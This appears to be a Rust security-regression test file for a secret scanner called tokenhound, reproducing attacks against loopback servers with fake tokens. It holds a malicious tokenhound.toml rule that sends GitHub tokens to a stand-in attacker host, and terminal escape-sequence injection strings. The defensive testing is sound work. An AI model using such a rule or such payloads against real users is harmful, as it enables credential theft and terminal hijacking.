//! Issue 16, security hardening: each test is named after the item it holds,
//! reproduces the attack (loopback servers only) and fails without the fix.
//! docs/SECURITY.md lists which test holds which promise.

mod common;

use std::fs;
use std::path::Path;
use std::time::Duration;

use common::{fake_ghp, git, json, tokenhound, Server};
use serde_json::Value;

/// A scanned tree whose own `tokenhound.toml` declares a custom rule that claims
/// GitHub tokens with `priority = 100` and sends them to `evil_base` (the attack
/// of issue 16 item 1), next to a file holding a fake GitHub token.
fn evil_tree(dir: &Path, evil_base: &str, token: &str) {
    fs::create_dir_all(dir).unwrap();
    fs::write(
        dir.join("tokenhound.toml"),
        format!(
            r#"[[rule]]
id = "evil-github"
name = "GitHub token (harmless test fixture, nothing to revoke)"
provider = "github"
kind = "personal-access-token"
keywords = ["ghp_"]
pattern = '''\b(?P<secret>ghp_[A-Za-z0-9]{{36}})\b'''
priority = 100
lifetime = "short"
revoke = "Nothing to do: a test fixture."
examples = ["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"]
[rule.verify]
endpoint = "evil"
base = "{evil_base}"
path = "/user"
headers = {{ Authorization = "token {{secret}}" }}
"#
        ),
    )
    .unwrap();
    fs::write(
        dir.join("deploy.env"),
        format!("GITHUB_TOKEN={token}  # fake token for a test\n"),
    )
    .unwrap();
}

fn parse(out: &std::process::Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: stdout {} stderr {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

fn finding_for<'a>(doc: &'a Value, token_prefix: &str) -> &'a Value {
    doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with("deploy.env"))
        .unwrap_or_else(|| panic!("no finding for {token_prefix}: {doc}"))
}

const VERIFY: [&str; 6] = [
    "--verify",
    "--verify-allow-private",
    "--verify-timeout",
    "2",
    "--format",
    "json",
];

/// Runs `cmd` with `--verify --verify-allow-private` and a JSON report.
fn verify_json(cmd: &mut std::process::Command) -> Value {
    parse(&cmd.args(VERIFY).output().unwrap())
}

/// A loopback server standing in for an attacker's host, and a scanned tree
/// (`<tmp>/<name>`) whose config aims at it (see `evil_tree`).
fn evil_setup(name: &str, seed: &str) -> (Server, tempfile::TempDir, std::path::PathBuf) {
    let server = Server::start(|_| json(200, r#"{"login":"fake"}"#));
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join(name);
    evil_tree(
        &tree,
        &format!("https://127.0.0.1:{}", server.port),
        &fake_ghp(seed),
    );
    (server, dir, tree)
}

#[test]
fn item1_tree_config_rule_cannot_send_tokens_to_its_own_host() {
    let (server, _dir, tree) = evil_setup("tree", "item1");
    let doc = verify_json(tokenhound().arg("scan").arg(&tree));
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(
        server.connections(),
        0,
        "the scanned tree's rule sent a token to its own host: {doc}"
    );
    // The built-in rule keeps the match: the tree's priority 100 does not rank
    // its rule above a built-in one.
    let f = finding_for(&doc, "ghp_");
    assert_eq!(f["rule_id"], "github-pat-classic", "{f}");
    // The summary says what the tree's config was refused.
    let cfg = &doc["stats"]["config"];
    assert_eq!(cfg["from_scanned_tree"], true, "{doc}");
    let said = cfg["restricted"].to_string();
    assert!(
        said.contains("evil-github") && said.contains("priority"),
        "{cfg}"
    );
    // The human summary says it too.
    let human = tokenhound().arg("scan").arg(&tree).output().unwrap();
    let text = String::from_utf8_lossy(&human.stdout);
    assert!(
        text.contains("evil-github") && text.contains("scanned tree"),
        "{text}"
    );
}

#[test]
fn item1_tree_config_rule_check_is_refused_and_says_how_to_allow_it() {
    // A custom rule of the tree that claims a token no built-in rule knows: its
    // check is refused (skipped, nothing sent) unless the user names the host.
    let server = Server::start(|_| json(200, r#"{"ok":true}"#));
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    fs::create_dir_all(&tree).unwrap();
    let rule = common::ACME_RULE.replace(
        "https://api.acme.test",
        &format!("https://127.0.0.1:{}", server.port),
    );
    fs::write(tree.join("tokenhound.toml"), &rule).unwrap();
    fs::write(
        tree.join("app.env"),
        "ACME = \"acme_Q7v2Lk9pXz4Rt8Wm3Nb6Hy1C\"  # fake token for a test\n",
    )
    .unwrap();
    let run = |extra: &[&str]| verify_json(tokenhound().arg("scan").arg(&tree).args(extra));
    let doc = run(&[]);
    let v = &doc["findings"][0]["verification"];
    assert_eq!(v["status"], "skipped", "{doc}");
    assert!(
        v["detail"]["reason"]
            .as_str()
            .unwrap()
            .contains("--verify-host"),
        "{v}"
    );
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(server.connections(), 0);
    // Named on the command line: the person running tokenhound allowed it.
    // (TLS to this plain-HTTP server fails, so the answer is `unknown`; what
    // matters is that the connection was made.)
    let doc = run(&["--verify-host", "127.0.0.1"]);
    assert_eq!(doc["findings"][0]["verification"]["status"], "unknown");
    assert!(server.connections() >= 1);
}

#[test]
fn item1_config_given_with_config_is_trusted() {
    // The positive control: the same file passed with --config is the user's
    // own, so its rule's priority and check are honoured.
    let (server, _dir, tree) = evil_setup("tree", "cfg");
    let doc = verify_json(
        tokenhound()
            .arg("scan")
            .arg(&tree)
            .arg("--config")
            .arg(tree.join("tokenhound.toml")),
    );
    assert_eq!(finding_for(&doc, "ghp_")["rule_id"], "evil-github");
    assert_eq!(doc["stats"]["config"]["from_scanned_tree"], false);
    assert!(server.connections() >= 1, "{doc}");
}

#[test]
fn item1_git_and_audit_verify_refuse_the_tree_config_targets() {
    let (server, dir, repo) = evil_setup("repo", "git");
    git(&repo, &["init", "-q", "-b", "main"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "a contributor's branch"]);
    let runs: Vec<(&str, Vec<String>)> = vec![
        (
            "git history",
            vec!["git".into(), repo.display().to_string()],
        ),
        (
            "audit",
            vec![
                "audit".into(),
                "--store".into(),
                dir.path().join("audit.db").display().to_string(),
                repo.display().to_string(),
            ],
        ),
    ];
    for (what, args) in runs {
        let doc = verify_json(tokenhound().args(&args));
        for f in doc["findings"].as_array().unwrap() {
            assert_eq!(f["rule_id"], "github-pat-classic", "{what}: {f}");
        }
        std::thread::sleep(Duration::from_millis(200));
        assert_eq!(server.connections(), 0, "{what}: {doc}");
    }
    // --staged and --working-tree too.
    fs::write(
        repo.join("new.env"),
        format!("T={}  # fake token for a test\n", fake_ghp("staged")),
    )
    .unwrap();
    git(&repo, &["add", "new.env"]);
    for mode in ["--staged", "--working-tree"] {
        let doc = verify_json(tokenhound().arg("git").arg(&repo).arg(mode));
        assert!(!doc["findings"].as_array().unwrap().is_empty(), "{mode}");
        std::thread::sleep(Duration::from_millis(200));
        assert_eq!(server.connections(), 0, "{mode}: {doc}");
    }
}

#[test]
fn item1_tree_config_suppression_is_said_and_no_tree_config_ignores_it() {
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    fs::create_dir_all(&tree).unwrap();
    fs::write(
        tree.join("tokenhound.toml"),
        "[allowlist]\npaths = [\"**\"]\n[rules]\ndisable = [\"jwt\"]\n",
    )
    .unwrap();
    fs::write(
        tree.join("deploy.env"),
        format!(
            "GITHUB_TOKEN={}  # fake token for a test\n",
            fake_ghp("sup")
        ),
    )
    .unwrap();
    // The gate passes (the tree may allowlist), but the summary says who did it.
    let out = tokenhound().arg("scan").arg(&tree).output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    let cfg_path = tree.join("tokenhound.toml").display().to_string();
    assert!(
        text.contains(&cfg_path)
            && text.contains("scanned tree")
            && text.contains("1 by [allowlist] paths")
            && text.contains("jwt"),
        "{text}"
    );
    let out = tokenhound()
        .arg("scan")
        .arg(&tree)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let doc = parse(&out);
    let cfg = &doc["stats"]["config"];
    assert_eq!(cfg["path"], cfg_path.as_str(), "{cfg}");
    assert_eq!(cfg["suppressed"]["path_allowlist"], 1, "{cfg}");
    assert_eq!(cfg["disabled_rules"][0], "jwt", "{cfg}");
    // --no-tree-config: the tree's settings are not used, and that is said.
    let out = tokenhound()
        .arg("scan")
        .arg(&tree)
        .args(["--no-tree-config", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let doc = parse(&out);
    assert_eq!(doc["findings"].as_array().unwrap().len(), 1);
    assert_eq!(doc["stats"]["config"]["ignored"], true, "{doc}");
}

#[test]
fn item1_own_examples_do_not_hide_other_tokens_in_the_tree_config() {
    // The config's own custom-rule examples are not leaks, but a real token
    // written into the same file is.
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    fs::create_dir_all(&tree).unwrap();
    let token = fake_ghp("own");
    fs::write(
        tree.join("tokenhound.toml"),
        format!("{}\n# GITHUB_TOKEN={token}\n", common::ACME_RULE),
    )
    .unwrap();
    let out = tokenhound()
        .arg("scan")
        .arg(&tree)
        .args(["--format", "json"])
        .output()
        .unwrap();
    let doc = parse(&out);
    let ids: Vec<&str> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["github-pat-classic"], "{doc}");
}

/// A fake Telegram bot token (the format of the rule's own examples).
const TELEGRAM: &str = "5190372846:AAq7W3e9R1t5Y2u8Zx4Kc6Vb0Nm2Lp8Jh4G";

#[test]
fn item2_network_error_text_never_carries_the_token() {
    // The token goes into the URL path (`/bot<id>%3A<secret>/getMe`); the
    // connection fails (nothing listens on the port): the recorded error must
    // hold no form of the token, in any output or in the audit store.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    fs::create_dir_all(&tree).unwrap();
    let cfg = dir.path().join("mine.toml");
    fs::write(
        &cfg,
        format!("[verify.endpoints]\ntelegram = \"http://127.0.0.1:{port}\"\n"),
    )
    .unwrap();
    fs::write(
        tree.join("bot.env"),
        format!("TELEGRAM_BOT_TOKEN={TELEGRAM}  # fake token for a test\n"),
    )
    .unwrap();
    let secret_part = TELEGRAM.split(':').nth(1).unwrap();
    let forms = [
        TELEGRAM.to_string(),
        TELEGRAM.replace(':', "%3A"),
        secret_part.to_string(),
    ];
    let store = dir.path().join("audit.db");
    for format in ["json", "human", "jsonl"] {
        let out = tokenhound()
            .arg("audit")
            .arg("--store")
            .arg(&store)
            .arg(&tree)
            .arg("--config")
            .arg(&cfg)
            .args([
                "--verify",
                "--verify-allow-private",
                "--verify-timeout",
                "2",
            ])
            .args(["--format", format])
            .output()
            .unwrap();
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        for form in &forms {
            assert!(!all.contains(form.as_str()), "{format}: {form} in {all}");
        }
        assert!(all.contains("connection failed"), "{format}: {all}");
    }
    let db = fs::read(&store).unwrap();
    for form in &forms {
        assert!(
            !db.windows(form.len()).any(|w| w == form.as_bytes()),
            "{form} stored in the audit store"
        );
    }
}

#[test]
fn item7_control_characters_never_reach_the_terminal_raw() {
    // An issuer's answer with escape sequences (clear screen, retitle, bell)
    // and a file name with them: shown as escapes, never obeyed.
    let server = Server::start(|_| {
        json(
            200,
            r#"{"ok":true,"user":"\u001b[2J\u001b]0;pwned\u0007fake-user\r\n"}"#,
        )
    });
    let dir = tempfile::tempdir().unwrap();
    let tree = dir.path().join("tree");
    fs::create_dir_all(&tree).unwrap();
    let rules = dir.path().join("acme.toml");
    fs::write(&rules, common::ACME_RULE).unwrap();
    let cfg = dir.path().join("mine.toml");
    fs::write(
        &cfg,
        format!("[verify.endpoints]\nacme = \"{}\"\n", server.base()),
    )
    .unwrap();
    fs::write(
        tree.join("app.env"),
        "ACME = \"acme_Q7v2Lk9pXz4Rt8Wm3Nb6Hy1C\"  # fake token for a test\n",
    )
    .unwrap();
    // Too large for --max-file-size: its name is printed in a note on stderr.
    fs::write(tree.join("big\x1b]0;pwned\x07\x1b[2K.log"), "x".repeat(500)).unwrap();
    let out = tokenhound()
        .arg("--rules")
        .arg(&rules)
        .arg("scan")
        .arg(&tree)
        .arg("--config")
        .arg(&cfg)
        .args(["--max-file-size", "200"])
        .args(["--verify", "--verify-allow-private"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stdout.contains("fake-user"), "{stdout} {stderr}");
    assert!(stderr.contains("big"), "{stderr} / {stdout}");
    for (name, text) in [("stdout", &stdout), ("stderr", &stderr)] {
        assert!(
            !text.contains('\x1b') && !text.contains('\x07') && !text.contains('\r'),
            "{name}: {text:?}"
        );
    }
    assert!(stdout.contains("\\x1b[2J"), "shown as an escape: {stdout}");
}

#[test]
fn item8_errors_quoting_settings_files_redact_secrets() {
    let token = fake_ghp("quoted");
    let body = &token[4..];
    let dir = tempfile::tempdir().unwrap();
    let run = |tree: &Path, extra: &[&str]| -> String {
        let out = tokenhound()
            .arg("scan")
            .arg(tree)
            .args(extra)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2));
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    // A directory `name` holding one settings file.
    let tree_with = |name: &str, file: &str, text: String| {
        let t = dir.path().join(name);
        fs::create_dir_all(&t).unwrap();
        fs::write(t.join(file), text).unwrap();
        t
    };
    // tokenhound.toml with a line toml cannot parse (an unquoted value).
    let t1 = tree_with(
        "t1",
        "tokenhound.toml",
        format!("[allowlist]\npaths = [{token}]\n"),
    );
    // .tokenhoundignore whose first word is a token, not a fingerprint.
    let t2 = tree_with(
        "t2",
        ".tokenhoundignore",
        format!("{token} until=2099-01-01\n"),
    );
    // A baseline whose version is a token.
    let baseline = dir.path().join("baseline.json");
    fs::write(
        &baseline,
        format!("{{\"version\": \"{token}\", \"findings\": []}}\n"),
    )
    .unwrap();
    // A config whose [rules] disable names a token.
    let t3 = tree_with(
        "t3",
        "tokenhound.toml",
        format!("[rules]\ndisable = [\"{token}\"]\n"),
    );
    for (what, msg) in [
        ("tokenhound.toml", run(&t1, &[])),
        (".tokenhoundignore", run(&t2, &[])),
        (
            "baseline",
            run(
                &t2,
                &[
                    "--baseline",
                    baseline.to_str().unwrap(),
                    "--ignore-file",
                    "/dev/null",
                ],
            ),
        ),
        ("[rules] disable", run(&t3, &[])),
    ] {
        assert!(msg.contains("error"), "{what}: {msg}");
        assert!(!msg.contains(body), "{what} quoted the token: {msg}");
    }
}

#[test]
fn item9_bad_durations_are_refused_before_the_scan() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(
        dir.path().join("deploy.env"),
        format!("GITHUB_TOKEN={}  # fake token for a test\n", fake_ghp("t")),
    )
    .unwrap();
    for (flag, value) in [
        ("--verify-timeout", "inf"),
        ("--verify-timeout", "nan"),
        ("--verify-timeout", "=-1"),
        ("--verify-timeout", "1e300"),
        ("--verify-rate", "inf"),
        ("--verify-rate", "0"),
        ("--verify-concurrency", "0"),
    ] {
        let out = tokenhound()
            .arg("scan")
            .arg(dir.path())
            .arg("--verify")
            .arg(if let Some(v) = value.strip_prefix('=') {
                format!("{flag}={v}")
            } else {
                flag.to_string()
            })
            .args(value.strip_prefix('=').is_none().then_some(value))
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{flag} {value}: {stderr}");
        assert!(
            stderr.contains(flag) && !stderr.contains("panicked"),
            "{flag} {value}: {stderr}"
        );
        assert!(out.stdout.is_empty(), "refused before scanning");
    }
}

#[test]
fn item11_install_hook_never_loses_a_users_hook() {
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    let hooks = repo.join(".git").join("hooks");
    fs::create_dir_all(&hooks).unwrap();
    let hook = hooks.join("pre-commit");
    let install = |force: bool| {
        let mut c = tokenhound();
        c.arg("install-hook").arg(&repo);
        if force {
            c.arg("--force");
        }
        c.output().unwrap()
    };
    // A user's hook that contains our marker line among their own lines.
    let with_marker = "#!/bin/sh\n# installed by `tokenhound install-hook`\nmake lint\n";
    fs::write(&hook, with_marker).unwrap();
    let out = install(false);
    assert_eq!(out.status.code(), Some(2), "{:?}", out);
    assert_eq!(
        fs::read_to_string(&hook).unwrap(),
        with_marker,
        "replaced without --force"
    );
    // --force keeps it as the backup.
    assert!(install(true).status.success());
    let backup = hooks.join("pre-commit.tokenhound-backup");
    assert_eq!(fs::read_to_string(&backup).unwrap(), with_marker);
    // Ours now: reinstalling needs no --force and makes no backup.
    assert!(install(false).status.success());
    // The user puts another hook of theirs back and forces again: both
    // earlier hooks are kept.
    fs::write(&hook, "#!/bin/sh\nnpm test\n").unwrap();
    assert!(install(true).status.success());
    assert_eq!(
        fs::read_to_string(&backup).unwrap(),
        with_marker,
        "first backup lost"
    );
    assert_eq!(
        fs::read_to_string(hooks.join("pre-commit.tokenhound-backup.1")).unwrap(),
        "#!/bin/sh\nnpm test\n"
    );
    let names: Vec<String> = fs::read_dir(&hooks)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("pre-commit.tokenhound-backup"))
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
}

/// Item 3: a token in a HAR entry's URL (`?access_token=…`) is redacted in every
/// location field, in human, json and jsonl output and in the audit store's
/// locations, like the secret itself.
#[test]
fn item3_har_locations_never_print_raw_tokens() {
    let dir = tempfile::tempdir().unwrap();
    let token = fake_ghp("harloc");
    let har = serde_json::json!({"log": {"version": "1.2", "entries": [{
        "request": {"method": "GET",
                    "url": format!("https://api.example.test/v1/me?access_token={token}"),
                    "headers": [], "queryString": [{"name": "access_token", "value": token}]},
        "response": {"status": 200, "headers": [], "content": {"text": "ok"}}
    }]}});
    fs::write(dir.path().join("capture.har"), har.to_string()).unwrap();
    for format in ["human", "json", "jsonl", "sarif"] {
        let out = tokenhound()
            .current_dir(dir.path())
            .args(["scan", "capture.har", "--format", format])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{format}");
        let all = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !all.contains(&token[4..]),
            "{format} printed the token:\n{all}"
        );
        assert!(all.contains("access_token=ghp_***"), "{format}:\n{all}");
    }
    let store = dir.path().join("audit.db");
    let out = tokenhound()
        .current_dir(dir.path())
        .args([
            "audit",
            "-q",
            "--format",
            "json",
            "-o",
            "/dev/null",
            "--store",
        ])
        .arg(&store)
        .arg("capture.har")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let db = fs::read(&store).unwrap();
    let wal = fs::read(dir.path().join("audit.db-wal")).unwrap_or_default();
    for bytes in [&db, &wal] {
        assert!(
            memchr::memmem::find(bytes, &token.as_bytes()[4..]).is_none(),
            "the audit store holds the raw token"
        );
    }
}

/// Item 5: `redact` lets no encoding and no half of a token through: JSON-escaped
/// and base64-encoded tokens are redacted, a token written in two pieces a
/// second apart is never flushed in part, nor one that starts after more than
/// 8 KiB of token characters.
#[test]
fn item5_redact_never_leaks_encoded_or_partial_tokens() {
    use base64::Engine as _;
    use std::io::Write;
    use std::process::Stdio;
    let run = |chunks: Vec<(Vec<u8>, u64)>| -> String {
        let mut child = tokenhound()
            .args(["redact", "--partial-wait-ms", "100"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        for (bytes, pause_ms) in chunks {
            stdin.write_all(&bytes).unwrap();
            stdin.flush().unwrap();
            std::thread::sleep(Duration::from_millis(pause_ms));
        }
        drop(stdin);
        String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).into_owned()
    };
    let tok = fake_ghp("redactfive");
    // Encoded forms.
    let escaped: String = tok
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("GH_TOKEN={tok}"));
    let out = run(vec![(
        format!("{{\"env\": \"{escaped}\"}}\nsecret: {b64}\n").into_bytes(),
        0,
    )]);
    assert!(
        !out.contains(&escaped[..24]) && !out.contains(&b64[..24]),
        "{out}"
    );
    assert_eq!(out.matches("[REDACTED:").count(), 2, "{out}");
    // Two pieces a second apart (many times the partial-line wait).
    let (a, b) = tok.split_at(20);
    let out = run(vec![
        (format!("deploying with {a}").into_bytes(), 1000),
        (format!("{b} done\n").into_bytes(), 0),
    ]);
    assert!(!out.contains(a), "the first half was flushed: {out}");
    assert!(
        out.starts_with("deploying with [REDACTED:github-pat-classic:"),
        "{out}"
    );
    // After more than 8 KiB of token characters on the same partial line.
    let run_of = "Q".repeat(9000);
    let out = run(vec![
        (format!("{run_of}/{tok}").into_bytes(), 1000),
        (b" ok\n".to_vec(), 0),
    ]);
    assert!(
        !out.contains(&tok[4..]),
        "leaked after a long run: {}",
        &out[out.len().saturating_sub(200)..]
    );
}
